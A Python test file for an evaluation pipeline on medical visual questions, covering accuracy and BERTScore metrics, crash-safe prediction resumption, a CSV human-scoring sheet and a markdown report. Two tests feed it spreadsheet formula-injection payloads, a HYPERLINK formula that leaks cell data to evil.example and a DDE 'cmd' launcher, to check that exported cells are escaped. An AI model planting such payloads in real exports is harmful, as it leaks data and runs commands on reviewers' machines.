"""Judge-free metrics, the resumable prediction runner, the human sheet and the report, on hand-made cases."""
from __future__ import annotations

import csv

import pytest

from src.data.sample import Sample
from src.eval.judge.judging import JudgeRun, Verdict
from src.eval.metrics import (best_bertscore, choice_metrics, closed_metrics, exact_match, no_judge_metrics,
                              open_metrics, token_recall)
from src.eval.predictions import prediction_record, run_predictions
from src.eval.report import (Group, as_text_cell, build_summary, export_human_sheet, from_text_cell, read_human_sheet,
                             render_report)
from src.rewards.answers import normalize_text


class FakeScorer:
    """1.0 for equal normalised texts, 0.5 when they share a word, else 0.1; remembers every pair."""

    model_name = "fake-bertscore"

    def __init__(self):
        self.pairs = []

    def score(self, candidates, references):
        self.pairs += list(zip(candidates, references))
        return [1.0 if normalize_text(c) == normalize_text(r)
                else 0.5 if set(normalize_text(c).split()) & set(normalize_text(r).split()) else 0.1
                for c, r in zip(candidates, references)]


def sample(i: int, answer: str, answer_type: str = "closed", dataset: str = "toy", **fields) -> Sample:
    return Sample(id=f"s{i}", dataset=dataset, image=f"/img/{i}.png", question=f"q{i}?", answer=answer,
                  answer_type=answer_type, **fields)


def rec(i: int, answer: str, said: str, answer_type: str = "closed", think: str | None = "because",
        **fields) -> dict:
    completion = f"<think>{think}</think><answer>{said}</answer>" if think else f"<answer>{said}</answer>"
    return prediction_record(sample(i, answer, answer_type, **fields), "test", "reasoning", completion)


def test_closed_accuracy_keeps_unmatched_predictions_in_the_denominator():
    records = [rec(0, "yes", "Yes, there is."), rec(1, "no", "maybe"), rec(2, "yes", "yes and no"),
               rec(3, "left", "The left."), rec(4, "no", "")]
    # right: 0 ("Yes, there is."), 3 ("The left." ~ "left"); wrong but counted: "maybe", "yes and no", "" -> 2/5
    assert closed_metrics(records) == {"n": 5, "accuracy": pytest.approx(0.4), "by_task": {}}  # no task set


def test_closed_and_open_metrics_per_task():
    records = [rec(0, "yes", "yes", task="presence"), rec(1, "no", "yes", task="presence"),
               rec(2, "yes", "yes", task="side"), rec(3, "two", "two", "open", task="count"),
               rec(4, "two", "two lesions", "open", task="count"), rec(5, "upper left", "lower left", "open",
               task="location"), rec(6, "upper left", "upper left", "open")]
    assert closed_metrics(records[:3])["by_task"] == {"presence": {"n": 2, "accuracy": 0.5},
                                                      "side": {"n": 1, "accuracy": 1.0}}
    # exact match and side errors per task; the record without a task is left out of by_task, not out of the total
    metrics = open_metrics(records[3:], FakeScorer())
    assert metrics["by_task"] == {"count": {"n": 2, "exact_match": 0.5, "side_error_rate": 0.0},
                                  "location": {"n": 1, "exact_match": 0.0, "side_error_rate": 1.0}}
    assert metrics["exact_match"] == pytest.approx(2 / 4)
    # "lower left" for "upper left" is the one side error; two references name a side or position
    assert (metrics["side_errors"], metrics["side_error_rate"], metrics["side_questions"]) == (1, 0.25, 2)


def test_token_recall_and_exact_match_take_the_best_reference():
    assert token_recall("the lung", ["left lung"]) == 0.5                 # {left, lung} ∩ {lung}
    assert token_recall("transverse plane", ["axial", "transverse"]) == 1.0
    assert token_recall("anything", ["..."]) == 0.0                        # no reference words
    assert exact_match("Axial.", ["axial"]) and not exact_match("axial plane", ["axial"])
    assert not exact_match("", [""])


def test_open_metrics_average_over_open_questions():
    records = [rec(0, "left lung", "the lung", "open"), rec(1, "axial", "transverse plane", "open",
               alternatives=("transverse",)), rec(2, "axial", "Axial.", "open")]
    scorer = FakeScorer()
    metrics = open_metrics(records, scorer)
    # recall (0.5 + 1 + 1) / 3; EM only "Axial."; BERTScore best per record: 0.5, max(0.1, 0.5), 1.0
    assert metrics["token_recall"] == pytest.approx(2.5 / 3)
    assert metrics["exact_match"] == pytest.approx(1 / 3)
    assert metrics["bertscore_f1"] == pytest.approx((0.5 + 0.5 + 1.0) / 3)
    assert len(scorer.pairs) == 4                      # one pair per reference, alternatives included


def test_best_bertscore_scores_an_empty_candidate_zero_without_asking_the_scorer():
    scorer = FakeScorer()
    assert best_bertscore(scorer, ["", "left"], [["left"], ["left"]]) == [0.0, 1.0]
    assert scorer.pairs == [("left", "left")]


def test_choice_total_pools_questions_rather_than_averaging_tasks():
    records = [rec(0, "(A)", "A", "choice", choices=("1", "2"), task="Count"),
               rec(1, "(B)", "(A) 1", "choice", choices=("1", "2"), task="Count"),
               rec(2, "(B)", "The answer is (B)", "choice", choices=("near", "far"), task="Depth")]
    metrics = choice_metrics(records)
    # Count 1/2, Depth 1/1; pooled total 2/3 (the mean of the task accuracies would be 0.75)
    assert metrics["by_task"] == {"Count": {"n": 2, "accuracy": 0.5}, "Depth": {"n": 1, "accuracy": 1.0}}
    assert metrics["accuracy"] == pytest.approx(2 / 3)


def test_no_judge_metrics_sections_format_rate_and_reasoning():
    scorer = FakeScorer()
    records = [rec(0, "yes", "yes", reasoning="a bright lesion"),      # think "because" vs reference
               rec(1, "no", "no", think=None, reasoning="no lesion"),  # no think at all -> 0
               rec(2, "lung", "lung", "open")]
    metrics = no_judge_metrics(records, scorer)
    assert metrics["format_rate"] == pytest.approx(2 / 3)             # record 1 lacks <think>
    assert set(metrics) == {"n", "format_rate", "closed", "open", "reasoning"}
    assert metrics["reasoning"] == {"n": 2, "bertscore_f1": pytest.approx((0.1 + 0.0) / 2)}


# ---------------------------------------------------------------- prediction runner

class CountingGenerator:
    def __init__(self, fail_on_call: int | None = None):
        self.calls, self.seen, self.fail_on_call = 0, [], fail_on_call

    def __call__(self, samples, system_prompt):
        self.calls += 1
        if self.calls == self.fail_on_call:
            raise RuntimeError("out of memory")
        self.seen += [s.id for s in samples]
        return [f"<think>{system_prompt[:4]}</think><answer>{s.answer}</answer>" for s in samples]


def test_predictions_resume_after_a_crash_without_regenerating(tmp_path):
    samples = [sample(i, "yes") for i in range(5)]
    path = tmp_path / "toy-test-reasoning.jsonl"
    crashing = CountingGenerator(fail_on_call=2)
    with pytest.raises(RuntimeError):
        run_predictions(samples, crashing, "SYS prompt", "reasoning", "test", path, batch_size=2)
    assert crashing.seen == ["s0", "s1"]
    # a crash in the middle of a write leaves a torn line: it is dropped and that sample regenerated
    with open(path, "a") as handle:
        handle.write('{"id": "s2", "compl')
    resumed = CountingGenerator()
    records = run_predictions(samples, resumed, "SYS prompt", "reasoning", "test", path, batch_size=2)
    assert resumed.seen == ["s2", "s3", "s4"]
    assert [r["id"] for r in records] == ["s0", "s1", "s2", "s3", "s4"]
    assert records[0]["think"] == "SYS" and records[0]["answer"] == "yes" and records[0]["image"] == "/img/0.png"
    again = CountingGenerator()
    assert run_predictions(samples, again, "SYS prompt", "reasoning", "test", path, batch_size=2) == records
    assert again.calls == 0
    assert len(path.read_text().splitlines()) == 5


def test_predictions_reject_duplicate_ids_and_short_generator_output(tmp_path):
    with pytest.raises(ValueError, match="'s1' occurs more than once"):
        run_predictions([sample(1, "yes"), sample(1, "no")], CountingGenerator(), "S", "r", "test",
                        tmp_path / "a.jsonl", 2)
    with pytest.raises(ValueError, match="returned 1 completions for 2 samples"):
        run_predictions([sample(1, "yes"), sample(2, "no")], lambda s, p: ["x"], "S", "r", "test",
                        tmp_path / "b.jsonl", 2)


# ---------------------------------------------------------------- human sheet and report

def _fill(path, scores: dict[str, tuple[str, str]]) -> None:
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["reasoning_score"], row["prediction_score"] = scores.get(row["id"], ("", ""))
    with open(path, "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_human_sheet_round_trip_and_validation(tmp_path):
    records = [rec(0, "yes", "yes", reasoning="r"), rec(1, "no", "yes", reasoning="r"), rec(2, "no", "no")]
    path = tmp_path / "sheet.csv"
    export_human_sheet(records, path)
    _fill(path, {"s0": ("1", "1"), "s1": ("0", "")})
    scores = read_human_sheet(path)
    assert scores[("toy", "test", "reasoning", "s0")] == {"reasoning_score": 1, "prediction_score": 1}
    assert scores[("toy", "test", "reasoning", "s1")] == {"reasoning_score": 0, "prediction_score": None}
    with pytest.raises(FileExistsError, match="already holds human scores"):
        export_human_sheet(records, path)
    _fill(path, {"s2": ("1", "yes")})
    with pytest.raises(ValueError, match=r"row 4 \(id 's2'\): prediction_score must be 0, 1 or empty"):
        read_human_sheet(path)


def test_human_sheet_cells_a_spreadsheet_would_run_as_formulas_are_escaped_and_read_back_exactly(tmp_path):
    records = [rec(0, "yes", '=HYPERLINK("http://evil.example/?"&A1,"see")', think="+cmd|' /C calc'!A0"),
               rec(1, "no", "@SUM(A1:A9)", think="-2+3"), rec(2, "no", "'=1+1", think="\tindented")]
    records[0]["id"], records[1]["id"], records[2]["id"] = "-7", "=id", "'quoted"
    path = tmp_path / "sheet.csv"
    export_human_sheet(records, path)
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values() if value]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]     # OWASP: no cell starts a formula
    assert rows[0]["prediction_answer"] == '\'=HYPERLINK("http://evil.example/?"&A1,"see")'
    assert (rows[2]["id"], rows[2]["prediction_answer"]) == ("\'\'quoted", "\'\'=1+1")
    _fill(path, {"\'-7": ("1", "1"), "\'=id": ("0", "0")})
    assert set(read_human_sheet(path)) == {("toy", "test", "reasoning", i) for i in ("-7", "=id", "'quoted")}
    assert read_human_sheet(path)[("toy", "test", "reasoning", "-7")] == {"reasoning_score": 1, "prediction_score": 1}


@pytest.mark.parametrize("hidden", [" ", "  \n", "\n", "\u200b", "\ufeff", "\u00a0", "\u2060 \u200b"])
@pytest.mark.parametrize("formula", ["=1+1", "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0b1", "\uff0d1",
                                     "\uff20SUM(A1)", "\ufe661"])
def test_a_formula_behind_invisible_characters_or_in_full_width_is_escaped_too(tmp_path, hidden, formula):
    """Whitespace, a line break, a zero-width space, a byte-order mark before it, or a full-width ＝ ＋ －
    ＠ (which some spreadsheets read as = + - @): still a formula to a spreadsheet, still escaped."""
    for value in (formula, hidden + formula):
        records = [rec(0, "yes", "x")]
        records[0].update(id=value, think=value, answer=value)  # as written, not as a completion parses
        path = tmp_path / "sheet.csv"
        export_human_sheet(records, path)
        with open(path, newline="", encoding="utf-8") as handle:
            row = next(csv.DictReader(handle))
        assert row["prediction_answer"] == row["prediction_think"] == row["id"] == "'" + value
        assert set(read_human_sheet(path)) == {("toy", "test", "reasoning", value)}
    for harmless in ("a=1", " plain", "\u2212 minus sign", "\u200bword"):
        assert as_text_cell(harmless) == harmless and from_text_cell(harmless) == harmless


def test_summary_and_report_in_the_paper_layout():
    reasoned = [rec(0, "yes", "yes", reasoning="r", dataset="silvar-med"),
                rec(1, "no", "yes", reasoning="r", dataset="silvar-med")]
    plain = [rec(i, "yes", "yes", dataset="vqa-rad") for i in (2, 3, 4)]
    groups = [Group("silvar-med", "test", "reasoning", reasoned), Group("vqa-rad", "test", "reasoning", plain)]
    verdicts = [Verdict("ok", 1, 1), Verdict("ok", 0, 1),
                Verdict("ok", 1), Verdict("failed", error="HTTP 503"), Verdict("unparseable", error="no score")]
    judge_run = JudgeRun("gpt-4o-mini", verdicts, prompt_tokens=1_000_000, completion_tokens=0, new_replies=4)
    sheet = {("silvar-med", "test", "reasoning", "s0"): {"reasoning_score": 1, "prediction_score": 0}}
    metrics = [{"n": len(g.records), "format_rate": 1.0} for g in groups]
    run = {"model": "m", "generation": {"max_new_tokens": 8, "temperature": 0.0}, "bertscore_model": "fake"}
    summary = build_summary(run, groups, metrics, [judge_run], sheet)

    judged = summary["groups"][1]["judges"]["gpt-4o-mini"]
    # vqa-rad: one ok verdict (score 1); the unparseable one counts as not correct, the failed one (no
    # reply: a re-run asks again) is left out: 1 of 2
    assert judged == {"final": 0.5, "reasoning": None, "scored": 2, "scored_reasoning": 0, "judged": 1,
                      "unparseable": 1, "refused": 0, "truncated": 0, "failed": 1, "verdict_in_prediction": 0}
    assert summary["judges"]["gpt-4o-mini"]["cost_usd"] == pytest.approx(0.15)   # 1M prompt tokens at $0.15/M
    assert [p["id"] for p in summary["judges"]["gpt-4o-mini"]["without_verdict"]] == ["s3", "s4"]
    report = render_report(summary)
    assert "| Dataset | gpt-4o-mini Reasoning (%) | gpt-4o-mini Final (%) | Human Evaluation Reasoning (%) | " \
           "Human Evaluation Final (%) |" in report
    assert "| **Reasoning prompting in inference** |" in report
    assert "| Ours (reasoning set) | 100.00% | 50.00% | 100.00% | 0.00% |" in report
    assert "| VQA-RAD | — | 50.00% | — | — |" in report
    assert "- failed: vqa-rad reasoning id s3: HTTP 503" in report
    assert "Generation: greedy, at most 8 new tokens. BERTScore model: `fake`." in report
